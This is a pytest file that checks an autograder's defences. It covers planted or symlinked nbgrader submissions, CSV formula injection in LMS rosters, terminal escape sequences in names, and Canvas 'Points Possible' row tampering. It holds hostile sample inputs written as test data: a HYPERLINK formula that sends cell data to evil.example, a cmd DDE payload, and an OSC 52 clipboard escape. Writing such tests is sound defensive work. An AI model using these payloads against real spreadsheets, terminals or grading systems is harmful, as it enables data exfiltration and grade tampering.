"""The course-level intake, tried as a hostile student and as a careless TA: nbgrader's exchange
(entries any hub user can plant in the world-writable inbound folder) and the LMS round trip
(roster fields that reach a CSV a TA opens in a spreadsheet, rows that would hand one student's
grade to another's LMS account)."""
import csv
import io
import os
import pwd

import pytest

from autograder.course import CourseError
from autograder.term import lms
from autograder.term.exchange import collect_exchange

quiet = lambda *args, **kwargs: None  # noqa: E731
GOOD = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
JUNK = b'{"cells": [], "metadata": {"planted": true}, "nbformat": 4, "nbformat_minor": 5}'
EARLY = "2026-11-30 09:00:00.000000 UTC"
FUTURE = "2099-01-01 00:00:00.000000 UTC"


# --- nbgrader's exchange ----------------------------------------------------------------------------

@pytest.fixture
def inbound(collect_course):
    folder = collect_course.root / "exchange" / "backprop" / "inbound"
    folder.mkdir(parents=True)
    return folder


def _entry(inbound, student, stamp, data, owner=None, tag="x"):
    """An inbound entry as `nbgrader submit` (or anyone imitating it) makes one, owned by `owner`."""
    entry = inbound / f"{student}+backprop+{stamp}+{tag}"
    entry.mkdir()
    (entry / "assignment.ipynb").write_bytes(data)
    if owner is not None:
        uid = pwd.getpwnam(owner).pw_uid
        for path in (entry, entry / "assignment.ipynb"):
            os.chown(path, uid, -1)
    return entry


def _collected(course, student):
    return course.notebook(course.submitted(student)).read_bytes()


def test_a_future_dated_entry_planted_by_another_student_does_not_replace_the_students_own(collect_course, inbound):
    # Two hub users, `daemon` (the honest student) and `bin` (the attacker: a student too, with a
    # submission of their own). bin plants an entry under daemon's name dated 2099 in its name.
    _entry(inbound, "daemon", EARLY, GOOD, owner="daemon", tag="real")
    _entry(inbound, "daemon", FUTURE, JUNK, owner="bin", tag="planted")
    _entry(inbound, "bin", EARLY, GOOD, owner="bin")
    lines = collect_exchange(collect_course, collect_course.root / "exchange", echo=quiet)
    assert lines["daemon"] == "collected"
    assert _collected(collect_course, "daemon") == GOOD


def test_a_link_planted_under_a_students_name_does_not_hide_their_submission(collect_course, inbound):
    _entry(inbound, "daemon", EARLY, GOOD, tag="real")
    (inbound / f"daemon+backprop+{FUTURE}+planted").symlink_to(collect_course.source)
    lines = collect_exchange(collect_course, collect_course.root / "exchange", echo=quiet)
    assert lines["daemon"] == "collected"
    assert _collected(collect_course, "daemon") == GOOD


def test_the_latest_entry_is_the_latest_written_not_the_latest_named(collect_course, inbound):
    # A name's time is whatever the submitting process wrote; a later resubmission must win over
    # an entry that merely claims 2099 (on a hub where every user is the same Unix user, too).
    _entry(inbound, "daemon", FUTURE, JUNK, tag="claims-2099")
    os.utime(inbound, None)
    _entry(inbound, "daemon", EARLY, GOOD, tag="written-later")
    # the ctimes differ by microseconds at least; make sure the later one is later
    later = inbound / f"daemon+backprop+{EARLY}+written-later"
    os.chmod(later, 0o755)
    lines = collect_exchange(collect_course, collect_course.root / "exchange", echo=quiet)
    assert lines["daemon"] == "collected"
    assert _collected(collect_course, "daemon") == GOOD


def test_an_entry_owned_by_another_student_is_refused(collect_course, inbound):
    # bin, another hub user, plants the only entry under the name of daemon (a hub user too).
    _entry(inbound, "daemon", EARLY, JUNK, owner="bin", tag="planted")
    _entry(inbound, "bin", EARLY, GOOD, owner="bin")
    lines = collect_exchange(collect_course, collect_course.root / "exchange", echo=quiet)
    assert lines["daemon"].startswith("not collected: its exchange folder belongs to bin, another hub user")
    assert not collect_course.submitted("daemon").exists()
    assert lines["bin"] == "collected"


# --- the LMS round trip ----------------------------------------------------------------------------

CANVAS_HEADER = "Student,ID,SIS User ID,SIS Login ID,Section,backprop (77)\r\n    Points Possible,,,,,22\r\n"
MOODLE_HEADER = "First name,Last name,ID number,Email address,Roles\r\n"
# What a student can type into their LMS profile (Moodle lets students edit their names by default).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula_cells(text):
    return [cell for cell in _cells(text) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_names_a_student_set_in_the_lms_never_reach_a_grade_file_as_formulas(collect_course, tmp_path):
    rows = "".join(f'"{f.replace(chr(34), chr(34) * 2)}",Last{i},S{i},s{i}@uni.example,Student\r\n'
                   for i, f in enumerate(FORMULAS))
    roster = lms.parse_roster((MOODLE_HEADER + rows).encode(), "moodle.csv")
    lms.save_roster(collect_course, roster, "moodle.csv")
    records = {f"S{i}": {"score": 10.0} for i in range(len(FORMULAS))}
    lines = []
    path = lms.write_exports(collect_course, records, [("a", 22, None)], "moodle", tmp_path, echo=lines.append)
    text = path.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    assert f"'{FORMULAS[0]}" in _cells(text)          # still readable to the TA, as text
    assert not any("formula" in line for line in lines)  # no identifier was touched: all rows match


def test_a_canvas_section_or_name_is_not_a_formula_either():
    text = (CANVAS_HEADER + f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}, Eve",101,S1,eve,@SUM(1+1),\r\n'
            '"Lovelace, Ada",102,S2,ada,Lab 1,\r\n')
    roster = lms.parse_roster(text.encode(), "canvas.csv")
    rows, _ = lms.grade_rows(roster.members, {"eve": {"score": 3.0}, "ada": {"score": 4.0}})
    written = lms.canvas_csv(rows, "backprop", "77")
    assert _formula_cells(written) == []
    assert [row[3:] for row in csv.reader(io.StringIO(written))][1:] == [["eve", "'@SUM(1+1)", "3"],
                                                                      ["ada", "Lab 1", "4"]]


def test_an_identifier_that_looks_like_a_formula_is_neutralised_and_the_ta_is_told(collect_course, tmp_path):
    rows = "Ada,Lovelace,S1,=1+2@evil.example,Student\r\nBob,Ross,S2,bob@uni.example,Student\r\n"
    roster = lms.parse_roster((MOODLE_HEADER + rows).encode(), "moodle.csv")
    lms.save_roster(collect_course, roster, "moodle.csv")
    lines = []
    path = lms.write_exports(collect_course, {"S1": {"score": 1.0}, "S2": {"score": 2.0}}, [("a", 22, None)],
                             "moodle", tmp_path, echo=lines.append)
    assert _formula_cells(path.read_text(encoding="utf-8")) == []
    warned = [line for line in lines if "formula" in line]
    assert len(warned) == 1 and warned[0].endswith(": S1")


def test_two_roster_rows_with_one_canvas_account_are_one_line_not_a_grade_for_the_wrong_student():
    # A TA pasted two exports together: jon's row carries eve's Canvas user id 101.
    text = CANVAS_HEADER + '"Eve, A",101,S1,eve,L,\r\n"Lovelace, Ada",102,S2,ada,L,\r\n"Doe, Jon",101,S3,jon,L,\r\n'
    with pytest.raises(CourseError) as error:
        lms.parse_roster(text.encode(), "canvas.csv")
    assert str(error.value).startswith("canvas.csv: ID '101' is on rows 3 and 5")


def test_two_moodle_rows_with_one_email_tell_the_ta_to_map_by_id_number():
    text = MOODLE_HEADER + "Ada,L,S1,same@uni.example,Student\r\nBob,R,S2,SAME@uni.example,Student\r\n"
    roster = lms.parse_roster(text.encode(), "moodle.csv")
    assert [m.student_id for m in roster.members] == ["S1", "S2"]
    assert roster.skipped == ["Email address 'SAME@uni.example' is on rows 2 and 3: map Moodle's grade import by "
                              "another identifier than Email address"]


def test_terminal_escapes_in_a_name_do_not_reach_the_tas_terminal(collect_course, tmp_path, capsys):
    from autograder.verbs.roster import import_roster, list_roster

    file = tmp_path / "moodle.csv"
    file.write_text(MOODLE_HEADER + "Ada\x1b]52;c;ZWNobyBwd25lZA==\x07,Love\u202elace,S1,a@uni.example,Student\r\n")
    import_roster(collect_course, file, echo=print)
    list_roster(collect_course, echo=print)
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "S1" in out


def test_a_student_called_points_possible_is_a_student():
    text = CANVAS_HEADER + '"Points Possible, Pat",103,S3,pat,L,\r\n"Lovelace, Ada",102,S2,ada,L,\r\n'
    roster = lms.parse_roster(text.encode(), "canvas.csv")
    assert [m.student_id for m in roster.members] == ["pat", "ada"]


def test_a_file_far_larger_than_any_class_is_refused_before_it_is_read(collect_course, tmp_path):
    from autograder.verbs.roster import import_roster

    file = tmp_path / "everyone.csv"
    with file.open("wb") as handle:   # sparse: no disk space, and nothing may read it whole
        handle.write(MOODLE_HEADER.encode())
        handle.truncate(65 * 2**20)
    with pytest.raises(CourseError) as error:
        import_roster(collect_course, file, echo=quiet)
    assert "export only the course's students" in str(error.value)



def test_a_student_named_points_possible_cannot_set_the_canvas_assignments_points():
    # Canvas's importer takes a row whose first cell contains "Points Possible" (case-sensitive) as
    # the points row: it would make this student's score the assignment's points possible.
    text = CANVAS_HEADER + '"Possible, Points Possible",103,S3,pat,L,\r\n"Lovelace, Ada",102,S2,ada,L,\r\n'
    roster = lms.parse_roster(text.encode(), "canvas.csv")
    rows, _ = lms.grade_rows(roster.members, {"pat": {"score": 2.0}, "ada": {"score": 20.0}})
    for written in (lms.canvas_csv(rows, "backprop", "77"), lms.canvas_csv(rows, "backprop", None, points=22)):
        table = list(csv.reader(io.StringIO(written)))
        points_rows = [row for row in table if "Points Possible" in row[0]]
        assert points_rows == ([] if "(77)" in table[0][5] else [["Points Possible", "", "", "", "", "22"]])
        assert [row[3] for row in table if row[3] in ("pat", "ada")] == ["pat", "ada"]


def test_the_stored_roster_with_names_and_emails_is_readable_by_its_owner_only(collect_course):
    # Course folders are often group-readable (several TAs): the roster's names, emails and SIS ids
    # must not be, whatever the umask.
    old = os.umask(0o022)
    try:
        roster = lms.parse_roster((MOODLE_HEADER + "Ada,Lovelace,S1,ada@uni.example,Student\r\n").encode(),
                                  "moodle.csv")
        path = lms.save_roster(collect_course, roster, "moodle.csv")
        assert os.stat(path).st_mode & 0o777 == 0o600
        lms.save_roster(collect_course, roster, "moodle.csv")   # written again: still 0600, nothing staged left
    finally:
        os.umask(old)
    assert os.stat(path).st_mode & 0o777 == 0o600
    assert sorted(p.name for p in collect_course.root.iterdir() if "roster" in p.name) == ["lms_roster.json"]
    assert lms.load_roster(collect_course).members[0].email == "ada@uni.example"
